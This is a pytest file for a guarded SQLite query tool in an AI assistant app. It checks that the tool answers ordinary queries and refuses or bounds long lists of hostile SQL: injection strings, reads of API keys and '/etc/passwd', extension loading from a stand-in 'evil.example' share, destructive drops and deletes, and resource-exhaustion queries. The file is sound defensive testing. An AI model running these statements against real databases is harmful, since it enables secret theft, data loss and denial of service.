"""`query_database`: right answers about the user's own store, and nothing else, whatever is asked.

The hostile list is made of the tricks in SQLite's "Defense Against The Dark Arts" (sqlite.org/security.html),
the limits in sqlite.org/limits.html, the payloads that sqlmap tries on SQLite, the injections in OWASP's and
PayloadsAllTheThings' SQLite sheets, and those of its authors against this very design.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncIterator
from contextlib import closing
from pathlib import Path

import pytest
from tool_calls import called, context_of

from deskside.backend.app import App, open_app
from deskside.backend.store.guarded_query import VIEWS, Answer, Limits, QueryRefused, query
from deskside.backend.tools.query_database import query_database
from stores import connected, paths_in, rows, talk

NUMBERS = "with recursive n(i) as (values (1) union all select i + 1 from n)"
BIG = (
    "with recursive t(x) as (values ('aaaaaaaaaaaaaaaa') union all "
    "select x || x from t where length(x) < 2000000)"
)
QUICK = Limits(time_s=0.3)
# What a bounded statement may take all in all: one step of SQLite's that cannot be interrupted, on a machine
# that does other things beside.
MOST_S = 5.0

SECRETS = {
    "api_key": "wxyz",
    "setting": "planted-setting",
    "error_log": "planted-error",
    "run_event": "planted-event",
    "conversation": "planted-title",
    "message_part": "planted-deleted-text",
    "provider_data": "planted-provider-data",
}


@pytest.fixture
async def app(tmp_path: Path) -> AsyncIterator[App]:
    async with open_app(paths_in(tmp_path)) as app:
        await talk(app.store, ("Where are the plums?", "I have eaten them."), ("All?", "Delicious."))
        await talk(app.store, ("planted-deleted-text", "planted-deleted-text"))
        with closing(connected(app.paths.database)) as connection, connection:
            connection.executescript("""
                insert into api_key values ('openai', 'OpenAI', 'wxyz', 'keychain', 1, null, null);
                insert into setting values ('device_model', '"planted-setting"', 1);
                insert into error_log (at_ms, source, code, message, place, detail, request_id)
                  values (1, 'run', 'x', 'planted-error', '', '', '');
                insert into run_event (run, n, at_ms, kind, data) values (1, 1, 1, 'x', 'planted-event');
                update message_part set provider_data = 'planted-provider-data';
                update conversation set deleted_ms = 1, title = 'planted-title' where id = 2;
                insert into usage_record (call_id, run, provider, model, input_tokens, cache_read_tokens,
                  cache_write_tokens, output_tokens, reasoning_tokens, reported, state, cost_nano_usd,
                  request_id, at_ms)
                  values ('u1', 1, 'openai', 'gpt-5', 10, 0, 0, 5, 0, 'all', 'estimated', 1500000, '', 1000);
            """)
        yield app


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same store for the whole list, closed: a file that nobody else writes."""
    folder = tmp_path_factory.mktemp("hostile")

    async def fill() -> None:
        filled = app.__wrapped__(folder)  # type: ignore[attr-defined]
        await anext(filled)
        async for _ in filled:
            pass

    asyncio.run(fill())
    return paths_in(folder).database


# -- what can be asked ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "answer"),
    [
        ("select count(*) from conversations", '["count(*)"]\n[1]'),
        ("select title, agent from conversations", '["title","agent"]\n["Where are the plums?","assistant"]'),
        (
            "select role, text from messages where text like '%plums%' or text like '%eaten%' order by id",
            '["role","text"]\n["user","Where are the plums?"]\n["assistant","I have eaten them."]',
        ),
        ("select sum(cost_usd) as usd, input_tokens from usage", '["usd","input_tokens"]\n[0.0015,10]'),
        ("select status from runs where agent = 'assistant' limit 1", '["status"]\n["complete"]'),
        (
            "with m as (select conversation_id, count(*) as n from messages group by 1) "
            "select title, n from conversations join m on m.conversation_id = conversations.id;",
            '["title","n"]\n["Where are the plums?",4]',
        ),
        ("select id, row_number() over (order by id desc) as n from messages limit 1", '["id","n"]\n[4,1]'),
        (NUMBERS.replace("from n)", "from n where i < 4)") + " select sum(i) from n", '["sum(i)"]\n[10]'),
        ("select replace('a-b', '-', '+') as r, trim('xax', 'x') as t", '["r","t"]\n["a+b","a"]'),
        ("select trim('  x ') as t, instr('abc', 'c') as i", '["t","i"]\n["x",3]'),
        ("select 1 from memories", '["1"]\n(no rows)'),
        ("values (1, x'00ff')", '["column1","column2"]\n[1,"(2 bytes)"]'),
    ],
)  # fmt: skip
async def test_what_the_user_has_can_be_asked_about(app: App, sql: str, answer: str) -> None:
    found = await called(query_database, context_of(app), sql=sql)

    assert answer == found.text
    assert "store" == found.origin


@pytest.mark.parametrize("view", VIEWS)
async def test_every_view_is_described_to_the_model_with_its_columns(app: App, view: str) -> None:
    columns = query(app.paths.database, f"select * from {view}").columns

    assert f"{view}({', '.join(columns)})" in " ".join(query_database.spec.description.split())


async def test_a_deleted_conversation_is_not_there(app: App) -> None:
    found = query(
        app.paths.database,
        "select (select count(*) from messages where conversation_id = 2), title from conversations",
    )

    assert [[0, "Where are the plums?"]] == found.rows


async def test_a_mistake_is_told_so_that_the_model_can_mend_it(app: App) -> None:
    with pytest.raises(QueryRefused, match="no such column: titel"):
        await called(query_database, context_of(app), sql="select titel from conversations")
    with pytest.raises(
        QueryRefused, match=r"not allowed: table 'setting'\. You can read conversations, mess"
    ):
        await called(query_database, context_of(app), sql="select * from setting")


async def test_too_many_rows_and_too_long_texts_are_cut_and_say_so(app: App) -> None:
    many = "with recursive n(i) as (values (1) union all select i + 1 from n where i < 1000) "
    long = "with recursive n(t) as (values ('x') union all select t || t from n where length(t) < 100000) "

    rows_cut = await called(query_database, context_of(app), sql=many + "select i from n")
    cell_cut = query(app.paths.database, long + "select max(t) from n").rows[0][0]
    size_cut = query(
        app.paths.database,
        long
        + ", m(i) as (values (1) union all select i + 1 from m where i < 99) "
        + "select t from n, m where length(t) > 1000",
    )

    assert rows_cut.text.endswith("only the first 200 rows are shown; narrow the query or aggregate.")
    assert 202 == len(rows_cut.text.splitlines())
    assert cell_cut.endswith("… (127,072 more characters)")
    assert size_cut.has_more
    assert len(size_cut.rows) < 200


async def test_a_query_that_is_stopped_ends_at_once(app: App) -> None:
    endless = "with recursive n(i) as (values (1) union all select i + 1 from n) select max(i) from n"
    call = asyncio.create_task(called(query_database, context_of(app), sql=endless))
    started = time.monotonic()
    asyncio.get_running_loop().call_later(0.1, call.cancel)

    with pytest.raises(asyncio.CancelledError):
        await call
    with pytest.raises(QueryRefused, match="the query was stopped"):
        query(app.paths.database, endless, is_stopped=lambda: True)

    assert time.monotonic() - started < 2


async def test_the_store_is_written_to_while_a_query_runs(app: App) -> None:
    endless = (
        "with recursive n(i) as (values (1) union all select i + 1 from n) select max(i) from n, messages"
    )
    asking = asyncio.create_task(asyncio.to_thread(query, app.paths.database, endless, limits=QUICK))
    conversation_id = await talk(app.store, ("Again?", "Again."))

    with pytest.raises(QueryRefused):
        await asking

    assert 3 == conversation_id


# -- what cannot ----------------------------------------------------------------------------------

DOUBLING = "with c0 as (select 1 as x), " + ", ".join(
    f"c{n} as (select 1 as x from c{n - 1} a, c{n - 1} b)" for n in range(1, 40)
)

LONG = NUMBERS + f", t(x) as (select replace('{'x' * 900}', 'x', '{'y' * 900}'))"

REFUSED = [
    # the user's secrets, by every way to a table
    "select * from api_key",
    "select last_four from api_key",
    "select provider || last_four from main.api_key",
    'select * from "api_key"',
    "select * from [api_key]",
    "select * from `api_key`",
    "select * from 'api_key'",
    "SELECT * FROM API_KEY",
    "select * from/**/api_key--",
    "select * from api_key as conversations",
    "select count(*) from api_key",
    "select 1 from api_key",
    "select exists(select 1 from api_key where last_four like 'w%')",
    "select title from conversations union select last_four from api_key",
    "select title from conversations union all select value from setting",
    "select title from conversations where id = 1 and (select substr(last_four, 1, 1) from api_key) = 'w'",
    "select case when (select count(*) from api_key) > 0 then 1 else 0 end",
    "select title from conversations order by (select last_four from api_key)",
    "select title from conversations group by id having (select last_four from api_key) is not null",
    "select * from conversations join api_key",
    "select * from conversations natural join setting",
    "select * from (select * from (select * from api_key))",
    "with x as (select * from api_key) select * from x",
    "with conversations as (select * from api_key) select * from conversations",
    "with api_key as (select 1) select * from main.api_key",
    "select value from setting",
    "select * from error_log",
    "select data from run_event",
    "select * from migration",
    "select * from user",
    "select * from mcp_server",
    "select * from attachment",
    "select * from file_version",
    "select sha256 from migration",
    # past the views, to what they leave out
    "select * from conversation",
    "select title from conversation where deleted_ms is not null",
    "select provider_data from message_part",
    "select provider_data from messages",
    "with conversations as (select * from conversation) select * from conversations",
    "with messages as (select text from message_part) select * from messages",
    "with v_conversations as (select id, title from conversation) select * from v_conversations",
    "select conversation.title from conversations",
    "select * from temp.v_conversations",
    "select source from tools",
    # the schema
    "select * from sqlite_master",
    "select sql from sqlite_schema",
    "select * from sqlite_temp_master",
    "select * from sqlite_temp_schema",
    "select count(*) from sqlite_master",
    "select 1 from sqlite_temp_master",
    "select * from sqlite_sequence",
    "select * from sqlite_stat1",
    "select * from sqlite_dbpage",
    "select * from dbstat",
    "select * from pragma_table_info('api_key')",
    "select * from pragma_database_list",
    "select * from pragma_function_list()",
    "select name from pragma_table_list",
    "pragma table_info(api_key)",
    "pragma database_list",
    "pragma query_only = off",
    "pragma writable_schema = on",
    "pragma trusted_schema = on",
    "pragma journal_mode = delete",
    "pragma temp_store_directory = '/tmp'",
    # the search index and its shadow tables
    "select * from message_search",
    "select * from message_search where message_search match 'plums'",
    "select message_search from message_search('plums')",
    "select * from message_search_data",
    "select * from message_search_content",
    "select block from message_search_idx",
    "select fts5(x'00')",
    "select highlight(message_search, 0, 'a', 'b') from message_search",
    # other files, other programs
    "attach database '/tmp/evil.db' as evil",
    "attach database '/etc/passwd' as p",
    "attach database 'file:/tmp/x?mode=rwc' as x",
    "detach database main",
    "vacuum into '/tmp/copy.db'",
    "vacuum",
    "select load_extension('/tmp/evil.so')",
    "select load_extension('\\\\evil.example\\share\\evil.dll', 'entry')",
    "select readfile('/etc/passwd')",
    "select writefile('/tmp/x', 'y')",
    "select edit('x', 'sh')",
    "select * from fsdir('/')",
    "select eval('delete from message')",
    "select * from csv('/etc/passwd')",
    "select fts3_tokenizer('simple', x'4141414141414141')",
    "create virtual table temp.x using csv(filename='/etc/passwd')",
    # writing
    "insert into conversation (id) values (99)",
    "insert into conversations values (1)",
    "update conversation set title = 'x'",
    "delete from message",
    "delete from conversations returning *",
    "replace into setting values ('theme', '\"dark\"', 1)",
    "with x as (select 1) delete from message",
    "with x as (select 1) insert into memory select * from x",
    "drop table message",
    "drop view conversations",
    "alter table message rename to x",
    "create table x (y)",
    "create temp table x as select * from conversations",
    "create temp view x as select * from api_key",
    "create temp trigger x after insert on message begin select 1; end",
    "create index x on message (id)",
    "reindex",
    "analyze",
    "begin exclusive",
    "begin immediate",
    "commit",
    "rollback",
    "savepoint x",
    # more than one statement, none, or none that can be read
    "select 1; select last_four from api_key",
    "select 1; drop table message",
    "select title from conversations; attach 'x' as y --",
    "1' or '1'='1",
    "' union select last_four from api_key --",
    "",
    "   ",
    ";",
    "-- nothing",
    "/* nothing",
    "select 1\x00; drop table message",
    "select ?1",
    "select :name",
    # functions that tell about the program or make bytes out of nothing
    "select sqlite_version()",
    "select sqlite_source_id()",
    "select sqlite_compileoption_get(1)",
    "select changes(), total_changes(), last_insert_rowid()",
    "select randomblob(1000000000)",
    "select zeroblob(2147483647)",
    "select length(zeroblob(1000000000))",
    "select hex(zeroblob(100000000))",
    "select printf('%.*c', 1000000000, 'x')",
    "select format('%1000000000d', 1)",
    "select quote(zeroblob(100000000))",
    "select hex(x'00')",
    "select unhex('00')",
    "select sqlite_log(1, 'x')",
    "select likelihood(1, 0.5)",
    # JSON, whose functions walk what they are given
    "select value from json_each('[1,2]')",
    "select * from json_tree((select group_concat(text) from messages))",
    "select json_extract('{}', '$.a')",
    "select '[]' -> '$'",
    "select json_group_array(text) from messages",
    "select * from generate_series(1, 1000000000)",
    # compiling it is the attack
    DOUBLING + " select count(*) from c39",
    DOUBLING.replace("c1 ", '"c1" ').replace("from c1 ", "from 'C1' ") + " select 1 from c39",
    "with a as (with a as (with a as (select 1) select 1 from a, a) select 1 from a, a) select 1 from a, a",
    "select " + "(" * 900 + "1" + ")" * 900,
    "select " + "-" * 1 + " -".join(["1"] * 400),
    "select " + " union all select ".join(["1"] * 300),
    "select " + ", ".join(["1"] * 1500),
    "select 1 where 1 in (" + "select 1 where 1 in (" * 100 + "1" + ")" * 101,
    "select " + "abs(" * 200 + "1" + ")" * 200,
    "select max(" + ", ".join(["1"] * 200) + ")",
    "select title from conversations where title like '" + "%a" * 200 + "'",
    "select title from conversations where title glob '" + "*a" * 200 + "'",
    "select '" + "x" * 5000 + "'",
    # functions that search texts of megabytes in quadratic time
    BIG + " select instr(x, substr(x, 1, 1000000) || 'b') from t where length(x) > 1000000",
    BIG + " select replace(x, substr(x, 1, 1000000) || 'b', '') from t where length(x) > 1000000",
    BIG + " select length(trim(x, substr(x, 1, 1000000))) from t where length(x) > 1000000",
    BIG + " select length(replace(x, 'a', substr(x, 1, 1000000))) from t where length(x) > 1000000",
    BIG.replace("2000000", "200000000") + " select length(x) from t",
]  # fmt: skip

BOUNDED = [
    # it never ends, or has more rows than there are atoms
    NUMBERS + " select i from n",
    NUMBERS + " select max(i) from n",
    NUMBERS + " select i from n order by i desc",
    NUMBERS + " select count(distinct i) from n",
    NUMBERS + " select group_concat(i) from n",
    NUMBERS + " select sum(i) over (rows between unbounded preceding and unbounded following) from n",
    "with recursive n(i) as (values (1) union select i + 1 from n) select max(i) from n",
    "with recursive f(a, b) as (values (1, 1) union all select a + b, a * b from f) select * from f",
    "select count(*) from messages a, messages b, messages c, messages d, messages e, messages f, "
    "messages g, messages h, messages i, messages j, messages k, messages l, messages m, messages n",
    "select count(*) from " + ", ".join(f"tools a{n}" for n in range(40)),
    "with a as (select 1 from messages, messages), b as (select 1 from a, a), c as (select 1 from b, b) "
    "select count(*) from c, c, c",
    "select count(*) from messages m where exists (with recursive n(i) as (values (m.id) union all "
    "select i + 1 from n) select 1 from n where i < 0)",
    # it takes memory
    LONG + " select max(i), x || i from n, t order by 2",
    LONG + " select x || i from n, t order by 1",
    LONG + " select distinct x || i from n, t order by 1",
    LONG + ", u(x) as materialized (select x || i from n, t, messages) select count(*) from u",
    BIG + " select group_concat(x) from t, messages a, messages b, messages c, messages d, messages e",
    BIG + " select length(x) from t, messages a, messages b, messages c order by x",
    # patterns that look again and again
    BIG + " select count(*) from t, messages, messages b where x like '%a%a%a%a%a%a%a%a%a%a%a%a%a%a%a%a%b'",
    BIG + " select count(*) from t, messages, messages b where x glob '*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b'",
    BIG + " select count(*) from t, messages where x like '%_a_a_a_a_a_a_a_a_a_a_a_a_a_a_a_a_a_a_a_a_b'",
    BIG + " select count(*) from t, messages where x glob '*[!b][!b][!b][!b][!b][!b][!b][!b][!b]b'",
    BIG + " select upper(lower(upper(lower(x)))) from t, messages a, messages b, messages c",
    # window frames of quadratic work
    "with recursive n(i) as (values (1) union all select i + 1 from n where i < 100000) "
    "select max(i) over (rows between unbounded preceding and 1 following exclude current row) from n",
    "with recursive n(i) as (values (1) union all select i + 1 from n where i < 100000) "
    "select group_concat(i) over (order by i) from n",
    # it only looks dangerous
    "explain select * from conversations",
    "explain query plan select * from conversations",
    "select * from conversations limit -1",
    "select 'api_key', \"api_key\"",
    "select title from conversations where 1=1 or 'x'='x' -- ' and deleted",
    "select abs(-9223372036854775807)",
    "select strftime('%Y', 'now', '+99999999 years')",
    "select substr('x', -2147483648, 2147483647)",
    "select char(0, 0xD800, 0x10FFFF)",
    "select cast(x'fffefd' as text)",
    "select round(1.5, 2147483647)",
    "select * from (values (1), (2)) union select 3 except select 2 intersect select 3",
]  # fmt: skip


@pytest.mark.parametrize("sql", REFUSED)
def test_a_hostile_statement_is_refused(database: Path, sql: str) -> None:
    before = database.read_bytes()
    started = time.monotonic()

    with pytest.raises(QueryRefused) as refusal:
        query(database, sql, limits=QUICK)

    assert time.monotonic() - started < MOST_S
    assert not any(secret in str(refusal.value) for secret in SECRETS.values())
    assert before == database.read_bytes()


@pytest.mark.parametrize("sql", BOUNDED)
def test_a_statement_without_end_is_bounded(database: Path, sql: str) -> None:
    before = database.read_bytes()
    started = time.monotonic()
    try:
        found = query(database, sql, limits=QUICK)
    except QueryRefused as refusal:
        found = Answer([], [[str(refusal)]], False)

    assert time.monotonic() - started < MOST_S
    assert len(found.rows) <= QUICK.rows
    assert sum(len(str(row)) for row in found.rows) <= 2 * QUICK.result_bytes
    assert not any(secret in str(found.rows) for secret in SECRETS.values())
    assert before == database.read_bytes()


def test_the_lists_are_as_long_as_promised() -> None:
    assert len(set(REFUSED + BOUNDED)) >= 60


@pytest.mark.parametrize("sql", ["select name from sqlite_master", "select * from api_key"])
def test_a_store_that_is_not_there_or_no_store_is_refused(tmp_path: Path, sql: str) -> None:
    (tmp_path / "no.db").write_bytes(b"no database at all, " * 100)

    for name in ("no.db", "missing.db"):
        with pytest.raises(QueryRefused):
            query(tmp_path / name, sql)

    assert not (tmp_path / "missing.db").exists()


async def test_what_was_planted_is_really_there(app: App) -> None:
    """Or the tests above would find nothing in an empty file."""
    database = app.paths.database

    assert [("wxyz",)] == rows(database, "select last_four from api_key")
    assert [("planted-title",)] == rows(
        database, "select title from conversation where deleted_ms is not null"
    )
    assert [(2,)] == rows(database, "select count(*) from message_part where text = 'planted-deleted-text'")
